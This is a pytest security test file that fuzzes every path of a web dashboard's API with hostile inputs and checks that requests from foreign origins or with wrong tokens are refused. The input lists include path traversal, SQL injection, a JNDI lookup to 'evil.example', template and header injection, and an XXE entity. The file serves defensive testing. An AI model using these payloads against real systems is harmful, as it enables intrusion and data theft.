"""Attacks on all paths of the API: hostile values, foreign callers, and secrets in responses."""

from __future__ import annotations

import json
import re
import urllib.parse
from collections.abc import Callable, Iterator, Mapping
from typing import Any, NamedTuple

import pytest
from starlette.testclient import TestClient

from tests.cli import hostile
from tests.dashboard import story
from tests.dashboard.conftest import TOKENS, site
from wbengine._text import json_text
from wbengine.dashboard import _openapi
from wbengine.operations import _bulk
from wbengine.persistence import base
from wbengine.persistence._bulk_records import BulkFlow

#: A text for each kind of interpreter between the request and the store.
TEXTS = (
    "", "x" * 10_000, "../../etc/passwd", "..%2f", "%00", "\0", "\ud800", hostile.ORDERS,
    story.SCRIPT, "' OR 1=1 --", "${jndi:ldap://evil.example}", "{{7*7}}", "%s%s%n", "a\r\nx: 1",
    "-1", "NaN", "1e999", "9" * 400, "os:system", "http://evil.example", "*", "[[[[", "__class__",
)  # fmt: skip
#: Other JSON values.
VALUES: tuple[Any, ...] = (
    None, True, -1, 0, 10**30, 1e308, [], {}, [[[[]]]], {"": ""}, ["\0"] * 50,
    {"__proto__": {"x": 1}}, {"\ud800": "\ud800"},
)  # fmt: skip
#: Bodies that are no JSON objects.
BODIES = (
    b"", b"[", b"null", b"[]", b'"x"', b"\xff\xfe", b'{"a": NaN}', b"{" * 2000, b"[" * 100_000,
    b'{"x": 1e999}', b'{"a":1,"a":2}', b"9" * 5000, b"<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///'>]>",
)  # fmt: skip
#: Types of bodies that a form of another site can send.
FORMS = ("text/plain", "application/x-www-form-urlencoded", "multipart/form-data")
JSON = {"content-type": "application/json"}
#: A message is in two fields, and has at most 4,000 characters.
MAX_ERROR_BYTES = 9_000


class Path(NamedTuple):
    """A path of the API."""

    method: str
    template: str
    data: Mapping[str, Any]

    @property
    def schema(self) -> Mapping[str, Any]:
        body = self.data.get("requestBody", {}).get("content", {}).get("application/json", {})
        schema: Mapping[str, Any] = body.get("schema", {})
        return schema


PATHS = [
    Path(method.upper(), path, data)
    for path, methods in _openapi.document()["paths"].items()
    for method, data in methods.items()
]


@pytest.fixture
def attacked(log: Callable[[], str]) -> Iterator[story.Kept]:
    """Stored flows. After the test, no log contains a secret."""
    yield story.told()
    text = log()
    assert story.CANARY not in text
    assert not [token for token in TOKENS.values() if token in text]


def send(
    browser: TestClient, path: Path, segment: str, token: str = TOKENS["ann"], **options: Any
) -> Any:
    """Send a request, and check what holds for all responses.

    :param segment: the value of all parameters in the path.
    """
    url = re.sub(r"{\w+}", lambda match: urllib.parse.quote(segment, safe="%"), path.template)
    headers = {"authorization": f"Bearer {token}", **options.pop("headers", {})}
    answer = browser.request(
        path.method, f"/api/v1{url}", headers=headers, follow_redirects=False, **options
    )
    where = f"{path.method} {url[:200]} {str(options)[:300]}"
    assert answer.status_code < 500, f"{where}: {answer.status_code} {answer.text[:500]}"
    assert story.CANARY not in answer.text + str(answer.headers), where
    assert not [token for token in TOKENS.values() if token in answer.text], where
    assert not hostile.CONTROLS.search(answer.content.decode()), where
    assert not hostile.CONTROLS.search(str(answer.headers)), where
    assert answer.headers["x-content-type-options"] == "nosniff", where
    if answer.status_code >= 400:
        assert len(answer.content) <= MAX_ERROR_BYTES, where
        assert "Traceback" not in answer.text, where
    kind = answer.headers["content-type"].partition(";")[0]
    assert kind in ("application/json", "application/problem+json"), where
    return answer


def in_body(name: str, value: Any) -> dict[str, Any]:
    """Return the options of a request whose body contains a value, also a lone surrogate."""
    content = json.dumps({name: value})
    return {"content": content, "headers": {"content-type": "application/json"}}


@pytest.mark.slow
@pytest.mark.parametrize("path", PATHS, ids=lambda path: f"{path.method} {path.template}")
def test_hostile_values_are_refused_or_harmless(attacked: story.Kept, path: Path) -> None:
    uuid = attacked.uuids["leaking"]
    with site(attacked) as browser:
        for parameter in path.data["parameters"]:
            for text in TEXTS:
                if parameter["in"] == "query" and json_text.is_text(text):
                    query = urllib.parse.urlencode({parameter["name"]: text})
                    send(browser, path, uuid, params=query)
                elif parameter["in"] == "path" and text and json_text.is_text(text):
                    send(browser, path, text)
                elif parameter["in"] == "header" and text.isascii() and text.isprintable():
                    send(browser, path, uuid, headers={parameter["name"]: text})
        for name in [*path.schema.get("properties", ()), "unknown"]:
            for value in (*TEXTS, *VALUES):
                send(browser, path, uuid, **in_body(name, value))
        if path.schema:
            for body in BODIES:
                send(browser, path, uuid, content=body, headers=JSON)
            send(browser, path, uuid, content=b"{" + b" " * 2_000_000 + b"}", headers=JSON)


CHANGES = [path for path in PATHS if path.method == "POST"]


@pytest.mark.parametrize("path", CHANGES, ids=lambda path: path.template)
def test_changes_need_the_token_of_a_role_in_the_header(attacked: story.Kept, path: Path) -> None:
    uuid = attacked.uuids["leaking"]
    if path.template.startswith("/bulks"):
        bulk = _bulk.start(attacked.backend, "flow delete", [BulkFlow(uuid, "FAILURE")], {})
        if path.template.endswith("resume"):
            _bulk.cancel(attacked.backend, bulk.uuid)
        uuid = bulk.uuid
    before = contents(attacked)
    body = {"content": b"{}", "headers": JSON}
    with site(attacked, "ann") as browser:
        for headers in ({}, {"origin": "http://evil.example"}, {"origin": story.HOST}):
            url = re.sub(r"{\w+}", uuid, path.template)
            answer = browser.post(f"/api/v1{url}", content=b"{}", headers={**JSON, **headers})
            assert answer.status_code in (401, 403), f"only a cookie, {headers}"
        evil = {**JSON, "origin": "http://evil.example"}
        assert send(browser, path, uuid, content=b"{}", headers=evil).status_code == 403
        assert send(browser, path, uuid, TOKENS["victor"], **body).status_code == 403
    with site(attacked) as browser:
        assert send(browser, path, uuid, "wrong-" + TOKENS["ann"], **body).status_code == 401
        assert send(browser, path, uuid, TOKENS["gateway"], **body).status_code in (401, 403)
        for kind in FORMS if path.schema else ():
            form = {"content": b'{"all": true}', "headers": {"content-type": kind}}
            assert send(browser, path, uuid, **form).status_code in (404, 415)
    assert contents(attacked) == before


def contents(kept: story.Kept) -> Any:
    """Return what changes of flows, pauses and stored operations alter."""

    def read(connection: base.Connection) -> Any:
        rows = connection.list_flows(limit=100).flows
        commands = connection.commands([row.uuid for row in rows])
        return rows, commands, connection.bulks.latest(), connection.pauses()

    return kept.see(read)
